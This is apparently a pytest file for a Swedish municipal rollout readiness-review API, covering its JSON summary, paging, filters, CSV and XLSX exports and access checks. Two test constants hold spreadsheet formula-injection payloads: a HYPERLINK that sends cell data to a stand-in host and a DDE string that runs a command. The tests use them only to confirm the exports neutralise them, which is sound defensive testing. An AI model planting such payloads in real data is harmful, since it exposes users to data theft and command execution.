"""The readiness review API and its exports: JSON, CSV read back, XLSX read back with openpyxl."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook  # type: ignore[import-untyped]

from gatekeeper.core.status import ItemStatus
from gatekeeper.services.context import Context
from gatekeeper.services.projects import risk as risks
from gatekeeper.services.rollout import bulk_tick as unit_bulk
from gatekeeper.services.rollout import unit as units
from gatekeeper.services.rollout import wave as waves
from tests.factories import api_client
from tests.rollout_factories import PROJEKTLEDARE, ROLLOUT_KEY, start_rollout

BASE = f"/api/v1/projects/{ROLLOUT_KEY}/readiness-review"
BORAS_ENHETER = ("boras-hemtjanst-norr", "boras-hemtjanst-soder")


@pytest.fixture
def client(ctx: Context) -> TestClient:
    """Three kommuner × (kommun, 2 förvaltningar, 2 enheter); Borås's two enheter ready,
    one high risk open."""
    start_rollout(ctx, kommuner=3, units_per_kommun=2)
    for entry in ctx.catalog.checklist("cutover").items:
        if entry.mandatory:
            unit_bulk.bulk_update_items(
                ctx,
                PROJEKTLEDARE,
                project_key=ROLLOUT_KEY,
                item_id=entry.id,
                unit_keys=BORAS_ENHETER,
                status=ItemStatus.DONE,
                evidence="Protokoll i diariet",
            )
    risks.add_risk(
        ctx,
        PROJEKTLEDARE,
        project_key=ROLLOUT_KEY,
        title="Leverantörens driftmiljö är inte klar",
        probability=4,
        consequence=4,
    )
    return api_client(ctx)


def test_the_review_as_json(client: TestClient) -> None:
    answer = client.get(BASE)
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert body["project"] == ROLLOUT_KEY and body["as_of"] == "2026-11-25"
    assert body["totals"]["units"] == 15 and body["totals"]["ready"] == 2
    assert [w["key"] for w in body["waves"]] == ["vag-1", "vag-2", "vag-3"]
    wave_1 = body["waves"][0]
    assert wave_1["ready"] == 2 and wave_1["units"] == 5
    assert wave_1["suggestion"]["kind"] == "postpone"
    assert "boras" in wave_1["not_ready"]
    assert set(wave_1["forecast"]) >= {"projected_share", "in_time", "message_sv", "message_en"}
    # The forecast speaks of the wave's units, the same ones its figure counts.
    forecast = wave_1["forecast"]
    assert (forecast["units"], forecast["units_ready"]) == (wave_1["units"], wave_1["ready"])
    assert forecast["units_expected"] + len(forecast["not_expected"]) == forecast["units"]
    assert f"{forecast['units_expected']} av 5 enheter" in wave_1["suggestion"]["message_sv"]
    assert all(cell["step"] in {0, 1, 2, 3, 4} for k in body["kommuner"] for cell in k["cells"])
    assert body["blockers"][0]["kind"] == "risk" and body["blockers"][0]["units"] == 15
    # The default answer is the summary: the heatmap per kommun, no unit rows.
    assert body["units"] is None
    boras = next(k for k in body["kommuner"] if k["key"] == "boras")
    assert (boras["units"], boras["ready"]) == (5, 2)
    assert [c["category"] for c in boras["cells"]] == [
        c for c in body["categories"] if c in {x["category"] for x in boras["cells"]}
    ]
    assert all(0 <= c["done"] <= c["total"] for c in boras["cells"])
    assert {c["state"] for c in boras["cells"]} <= {"done", "partial", "open", "evidence"}
    body = client.get(BASE, params={"kommun": "boras"}).json()
    unit = next(u for u in body["units"] if u["key"] == "boras-hemtjanst-norr")
    assert unit["ready"] is True and unit["kommun"] == "boras" and unit["wave"] == "vag-1"
    assert [c["category"] for c in unit["cells"]] == [
        c for c in body["categories"] if c in {x["category"] for x in unit["cells"]}
    ]
    assert all(0 <= c["done"] <= c["total"] for c in unit["cells"])
    assert {k["key"] for k in body["kommuner"]} == {"boras"}


def test_the_unit_rows_page_with_the_shared_cursor(client: TestClient) -> None:
    seen: list[str] = []
    cursor = None
    while True:
        params = {"limit": 4} | ({"cursor": cursor} if cursor else {})
        page = client.get(f"{BASE}/units", params=params)
        assert page.status_code == 200, page.text
        body = page.json()
        assert body["categories"] and len(body["items"]) <= 4
        seen += [u["key"] for u in body["items"]]
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert len(seen) == len(set(seen)) == 15
    assert seen[:5] == [
        u["key"] for u in client.get(BASE, params={"kommun": "alingsas"}).json()["units"]
    ]
    in_wave = client.get(f"{BASE}/units", params={"wave": "vag-2"}).json()
    assert {u["kommun"] for u in in_wave["items"]} == {"alingsas"}
    assert in_wave["next_cursor"] is None
    bad = client.get(f"{BASE}/units", params={"cursor": "inte-en-markör"})
    assert bad.status_code == 422 and bad.json()["field"] == "cursor"
    assert client.get(f"{BASE}/units", params={"kommun": "boras-vo"}).status_code == 422
    assert client.get(f"{BASE}/units", params={"limit": 0}).status_code == 422


def test_filters_and_bad_filters(client: TestClient) -> None:
    body = client.get(BASE, params={"wave": "vag-2"}).json()
    assert body["wave"] == "vag-2" and {u["kommun"] for u in body["units"]} == {"alingsas"}
    body = client.get(BASE, params={"kommun": "lerum"}).json()
    assert body["kommun"] == "lerum" and body["totals"]["units"] == 5
    bad = client.get(BASE, params={"wave": "vag-7"})
    assert bad.status_code == 422
    assert bad.headers["content-type"].startswith("application/problem+json")
    assert bad.json()["field"] == "wave"


def test_units_csv_opens_in_swedish_excel(client: TestClient) -> None:
    answer = client.get(BASE + "/units.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    assert answer.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    header, data = rows[0], rows[1:]
    assert header[:3] == ["Kommun", "Enhet", "Enhetsnyckel"]
    assert len(data) == 15
    norr = next(r for r in data if r[2] == "boras-hemtjanst-norr")
    assert norr[header.index("Redo")] == "ja" and norr[0] == "Borås kommun"


def test_waves_xlsx_reads_back(client: TestClient) -> None:
    answer = client.get(BASE + "/waves.xlsx", params={"kommun": "boras"})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "boras" in answer.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(answer.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Våg" and sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert [r[1] for r in rows[1:]] == ["vag-1"]
    assert rows[1][rows[0].index("Enheter")] == 5
    assert sheet.column_dimensions["A"].width >= len("Våg 1 – pilotkommuner")


def test_units_xlsx_and_waves_csv(client: TestClient) -> None:
    sheet = load_workbook(io.BytesIO(client.get(BASE + "/units.xlsx").content)).active
    assert sheet.max_row == 16
    text = client.get(BASE + "/waves.csv").content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Våg;Vågnyckel;Driftstart")
    assert "\r\n" in text


HOSTILE_UNIT = '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")'
HOSTILE_WAVE = "=cmd|' /C calc'!A0"


def _name_cells_hostile(ctx: Context) -> None:
    units.update_unit(
        ctx, PROJEKTLEDARE, project_key=ROLLOUT_KEY, unit_key=BORAS_ENHETER[0], name=HOSTILE_UNIT
    )
    units.update_unit(
        ctx, PROJEKTLEDARE, project_key=ROLLOUT_KEY, unit_key=BORAS_ENHETER[1], name="@SUM(1+1)"
    )
    waves.update_wave(
        ctx, PROJEKTLEDARE, project_key=ROLLOUT_KEY, wave_key="vag-1", name=HOSTILE_WAVE
    )


def test_csv_exports_quote_cells_that_a_spreadsheet_would_run(
    ctx: Context, client: TestClient
) -> None:
    _name_cells_hostile(ctx)
    text = client.get(BASE + "/units.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    names = {r[2]: r[1] for r in rows[1:]}
    assert names[BORAS_ENHETER[0]] == "'" + HOSTILE_UNIT
    assert names[BORAS_ENHETER[1]] == "'@SUM(1+1)"
    assert {r[4] for r in rows[1:] if r[2] in BORAS_ENHETER} == {"'" + HOSTILE_WAVE}
    waves_text = client.get(BASE + "/waves.csv").content.decode("utf-8-sig")
    wave_rows = list(csv.reader(io.StringIO(waves_text), delimiter=";"))
    assert wave_rows[1][0] == "'" + HOSTILE_WAVE
    for row in rows + wave_rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


def test_xlsx_exports_hold_text_never_formulas(ctx: Context, client: TestClient) -> None:
    _name_cells_hostile(ctx)
    for table in ("units", "waves"):
        sheet = load_workbook(io.BytesIO(client.get(f"{BASE}/{table}.xlsx").content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        assert "'" + HOSTILE_WAVE in texts
        assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
    units_sheet = load_workbook(io.BytesIO(client.get(BASE + "/units.xlsx").content)).active
    names = {row[2]: row[1] for row in units_sheet.iter_rows(min_row=2, values_only=True)}
    assert names[BORAS_ENHETER[0]] == "'" + HOSTILE_UNIT
    # numbers stay numbers
    assert any(isinstance(c, int) for c in next(units_sheet.iter_rows(min_row=2, values_only=True)))


def test_unknown_format_and_unknown_project(client: TestClient) -> None:
    assert client.get(BASE + "/units.pdf").status_code == 422
    missing = client.get("/api/v1/projects/finns-inte/readiness-review")
    assert missing.status_code == 404


def test_outsiders_and_anonymous_callers_see_nothing(ctx: Context, client: TestClient) -> None:
    outsider = api_client(ctx, "okand@example.se")
    assert outsider.get(BASE).status_code == 404
    assert outsider.get(BASE + "/units.csv").status_code == 404
    anonymous = TestClient(client.app)
    assert anonymous.get(BASE).status_code == 401


def test_the_review_is_in_the_openapi_document(client: TestClient) -> None:
    paths = client.get("/api/v1/openapi.json").json()["paths"]
    review = paths["/api/v1/projects/{project_key}/readiness-review"]["get"]
    assert review["responses"]["200"]["content"]["application/json"]["schema"]["$ref"].endswith(
        "ReadinessReviewPublic"
    )
    assert "422" in review["responses"]
    assert "/api/v1/projects/{project_key}/readiness-review/units.{fmt}" in paths
